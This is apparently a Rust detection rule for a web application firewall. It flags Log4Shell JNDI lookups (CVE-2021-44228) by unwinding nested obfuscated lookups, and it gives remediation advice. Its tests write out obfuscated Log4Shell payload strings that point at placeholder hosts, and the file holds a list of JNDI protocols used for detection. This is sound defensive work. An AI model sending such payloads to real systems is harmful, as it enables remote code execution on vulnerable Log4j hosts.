//! GW-T-JNDI: Log4Shell-style JNDI lookups (CVE-2021-44228 and its obfuscations).
//!
//! Log4j expands `${...}` lookups recursively, so attackers hide `jndi` behind nested
//! lookups (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`, `${env:X:-j}ndi`). The rule collapses
//! every nested lookup to its default/argument text and then looks for `jndi:` followed by a
//! naming protocol.

use gw_model::{Confidence, Severity};

use super::{INJECTION_OWASP, Place, RuleMeta, ScanValue, T1190, ValueRule, Verdict};

pub struct JndiLookup;

static META: RuleMeta = RuleMeta {
    id: "GW-T-JNDI",
    name: "JNDI lookup injection (Log4Shell)",
    version: 1,
    severity: Severity::Critical,
    owasp: INJECTION_OWASP,
    mitre: &[T1190, ("TA0002", "T1203")],
    description: "A request value contains a `${jndi:...}` lookup that makes a vulnerable Log4j fetch and run remote code.",
    remediation: "Upgrade Log4j to 2.17.1 or later (or remove JndiLookup), set log4j2.formatMsgNoLookups=true on older 2.x, and block outbound LDAP/RMI from application hosts.",
};

const PROTOCOLS: &[&str] = &[
    "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http", "https",
];

/// Collapses nested lookups: `${lower:j}` -> `j`, `${::-j}` -> `j`, `${env:X:-j}` -> `j`.
fn collapse(lower: &str) -> String {
    let mut s = lower.to_string();
    for _ in 0..8 {
        let Some(start) = innermost_lookup(&s) else {
            break;
        };
        let Some(len) = s[start..].find('}') else {
            break;
        };
        let inner = &s[start + 2..start + len];
        let replacement = if inner.starts_with("jndi:") {
            // Keep the outer marker so it stays recognisable.
            format!("\u{1}{inner}\u{2}")
        } else if let Some(pos) = inner.find(":-") {
            inner[pos + 2..].to_string()
        } else if let Some(pos) = inner.find(':') {
            inner[pos + 1..].to_string()
        } else {
            inner.to_string()
        };
        s.replace_range(start..start + len + 1, &replacement);
    }
    s
}

/// Offset of a `${` whose body holds no further `${`.
fn innermost_lookup(s: &str) -> Option<usize> {
    let mut best = None;
    let mut from = 0;
    while let Some(off) = s[from..].find("${") {
        let at = from + off;
        let close = s[at..].find('}').map(|c| at + c);
        let next_open = s[at + 2..].find("${").map(|o| at + 2 + o);
        match (close, next_open) {
            (Some(c), Some(o)) if o < c => from = o,
            (Some(_), _) => {
                best = Some(at);
                break;
            }
            (None, _) => break,
        }
    }
    best
}

impl ValueRule for JndiLookup {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    /// Log4j logs every header, so every location counts.
    fn applies_to(&self, _place: Place) -> bool {
        true
    }

    fn check(&self, v: &ScanValue<'_>) -> Option<Verdict> {
        let at = v.lower.find("${")?;
        let collapsed = collapse(v.lower);
        let pos = collapsed.find("jndi:")?;
        let after = &collapsed[pos + 5..];
        let proto: String = after
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        let confidence = if PROTOCOLS.contains(&proto.as_str()) {
            Confidence::High
        } else {
            Confidence::Medium
        };
        Some(Verdict::new(
            confidence,
            format!("JNDI lookup `jndi:{proto}` after expanding nested lookups"),
            at..v.text.len(),
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::check;

    #[test]
    fn obfuscated_lookups() {
        for p in [
            "${jndi:ldap://x.y/a}",
            "${${lower:j}ndi:rmi://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
            "%24%7Bjndi:dns://x%7D",
        ] {
            assert!(check(&JndiLookup, p).is_some(), "{p}");
        }
        for p in ["${price}", "jndi is a java api", "${a}${b}"] {
            assert!(check(&JndiLookup, p).is_none(), "{p}");
        }
    }
}
